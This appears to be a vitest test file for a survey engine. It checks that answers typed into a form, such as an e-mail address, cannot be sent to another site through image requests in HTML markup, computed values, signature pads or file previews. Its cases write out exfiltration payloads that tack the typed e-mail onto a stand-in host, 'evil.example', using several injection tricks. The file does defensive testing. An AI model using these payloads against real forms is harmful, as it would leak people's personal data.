/** Acceptance 5 of the forms: nothing typed goes to another site with a picture, by whatever way it is made. */
import { QuestionFileModel, QuestionHtmlModel, QuestionSignaturePadModel } from 'survey-core';
import { describe, expect, it, vi } from 'vitest';
import { pageOf, readSurvey } from '#test/support/openSurvey.ts';
import { keepOwnPictures } from './cleanHtml.ts';
import { createSurvey, modelOf } from './engine.ts';

const typed = 'ana@example.org';
const far = 'https://evil.example/p.png';
const email = { type: 'text', name: 'Email' };
const hidden = (name: string, defaultValue: string) => ({
  type: 'text',
  name,
  visible: false,
  defaultValue,
});

interface Way {
  readonly html: string;
  readonly more?: readonly unknown[];
  readonly rest?: Readonly<Record<string, unknown>>;
}

/** What is drawn of markup after an e-mail was typed. */
function drawn({ html, more = [], rest = {} }: Way) {
  const layout = readSurvey({ ...rest, ...pageOf(email, ...more, { type: 'html', name: 'h', html }) });
  const engine = createSurvey({ layout, language: 'en' });
  engine.put({ Email: typed });
  const question = modelOf(engine).getQuestionByName('h');
  if (!(question instanceof QuestionHtmlModel)) throw new Error('no markup');
  const place = new DOMParser().parseFromString(question.locHtml.renderedHtml, 'text/html').body;
  keepOwnPictures(place, question.locHtml.text);
  return place;
}

describe('no picture is asked for at an address that answers have made', () => {
  it.each<[string, Way]>([
    ['an answer in it', { html: `<img src="${far}?{Email}">` }],
    ['its attribute is an answer', { html: `<img {a}="${far}?{Email}">`, more: [hidden('a', 'src')] }],
    [
      'its attribute is broken by what is empty',
      { html: `<img s{empty}rc=${far}?{Email}>`, more: [{ type: 'text', name: 'empty' }] },
    ],
    [
      'it is reckoned',
      {
        html: '{c}',
        rest: { calculatedValues: [{ name: 'c', expression: `'<img src=${far}?' + {Email} + '>'` }] },
      },
    ],
    ['it is an answer', { html: '{a}{Email}">', more: [hidden('a', `<img src="${far}?`)] }],
    ['it begins as a comment', { html: `{a}<img src="${far}?{Email}">-->`, more: [hidden('a', '<!-- -->')] }],
  ])('%s', (_, way) => {
    const place = drawn(way);
    expect([...place.querySelectorAll('img')].filter((picture) => picture.getAttribute('src'))).toEqual([]);
  });

  it('the layout’s own pictures stay, and answers in its texts', () => {
    const place = drawn({ html: `<p>{Email}</p><img src="/map.png"><img src="${far}">` });
    expect(place.textContent).toContain(typed);
    expect([...place.querySelectorAll('img')].map((picture) => picture.getAttribute('src'))).toEqual([
      '/map.png',
      far,
    ]);
  });
});

describe('a signature and a file show what lies in the answer, no address', () => {
  const reckoned = { setValueExpression: `'${far}?e=' + {Email}` };
  const png = 'data:image/png;base64,AAAA';

  function answered(question: Readonly<Record<string, unknown>>, ...more: readonly unknown[]) {
    const engine = createSurvey({ layout: readSurvey(pageOf(email, question, ...more)), language: 'en' });
    modelOf(engine).setValue('Email', typed);
    const found = modelOf(engine).getQuestionByName('s');
    return { engine, model: modelOf(engine), found };
  }

  /** The addresses that pictures are asked for at while a canvas is there for the signature. */
  function askedBy(question: QuestionSignaturePadModel): readonly string[] {
    const asked: string[] = [];
    vi.stubGlobal(
      'Image',
      class {
        set src(address: string) {
          asked.push(address);
        }
      },
    );
    const canvas = document.createElement('canvas');
    const place = document.createElement('div');
    place.append(canvas);
    const context = new Proxy({}, { get: () => () => undefined, set: () => true });
    vi.spyOn(canvas, 'getContext').mockReturnValue(Object(context));
    question.initSignaturePad(place);
    question.onSurveyLoad();
    vi.unstubAllGlobals();
    return asked;
  }

  it.each([
    ['as text', {}],
    ['or uploaded', { storeDataAsText: false }],
  ])('a signature that is reckoned, %s', (_, more) => {
    const { found } = answered({ type: 'signaturepad', name: 's', ...reckoned, ...more });
    if (!(found instanceof QuestionSignaturePadModel)) throw new Error('no signature');
    expect(found.value).toContain(typed);
    expect(askedBy(found)).toEqual([]);
  });

  it('a signature that was drawn is shown', () => {
    const { found } = answered({ type: 'signaturepad', name: 's', defaultValue: png });
    if (!(found instanceof QuestionSignaturePadModel)) throw new Error('no signature');
    expect(askedBy(found)).toContain(png);
  });

  it('a file whose answer another question gives', () => {
    const { model, found } = answered({ type: 'file', name: 's', defaultValue: `${far}?` });
    if (!(found instanceof QuestionFileModel)) throw new Error('no file');
    const own = { name: 'own.png', type: 'image/png', content: png };
    const shown = () => found.previewValue.map(({ content }: { content: string }) => content);
    expect(shown()).toEqual([]);
    model.setValue('s', [{ name: 'a.png', type: 'image/png', content: `${far}?${typed}` }, own]);
    expect(shown()).toEqual([png]);
    model.setValue('s', `${far}?${typed}`);
    expect(shown()).toEqual([]);
  });
});
